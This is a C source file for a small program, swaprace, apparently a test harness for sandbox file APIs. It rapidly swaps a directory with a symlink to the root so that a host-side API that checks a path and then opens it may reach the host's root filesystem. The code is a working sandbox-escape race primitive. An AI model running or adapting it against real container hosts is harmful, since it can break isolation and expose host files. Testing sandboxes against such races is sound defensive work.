/* swaprace DIR [SECONDS]: the file-API race a hostile workload runs.
 *
 * In DIR, swap the directory "d" and the symlink "l" (which points at "/")
 * with renameat2(RENAME_EXCHANGE), as fast as possible, for SECONDS (default
 * forever). A host-side file API that resolves a path under the sandbox and
 * opens it afterwards sometimes finds "d" to be a link to the root - and, if
 * it resolves links itself, the host's root. Built static so it runs in any
 * image: cc -static -O2 -o swaprace swaprace.c
 *
 * Where RENAME_EXCHANGE is refused (gVisor's Sentry), the names are swapped
 * with three plain renames instead: not atomic, but just as hostile.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc < 2 || chdir(argv[1]) != 0) {
        fprintf(stderr, "usage: swaprace DIR [SECONDS]\n");
        return 2;
    }
    double seconds = argc > 2 ? atof(argv[2]) : 0;
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    unsigned long swaps = 0, tries = 0;
    int exchange = 1;
    for (;; tries++) {
        if (exchange) {
            if (syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE) == 0)
                swaps++;
            else if (swaps == 0)
                exchange = 0;
        } else if (rename("d", "d.swap") == 0) {
            if (rename("l", "d") == 0) swaps++;
            rename("d.swap", "l");
        }
        if (seconds > 0 && (tries & 1023) == 0) {
            clock_gettime(CLOCK_MONOTONIC, &now);
            if (now.tv_sec - start.tv_sec + (now.tv_nsec - start.tv_nsec) / 1e9 > seconds) break;
        }
    }
    printf("%lu\n", swaps);
    return 0;
}
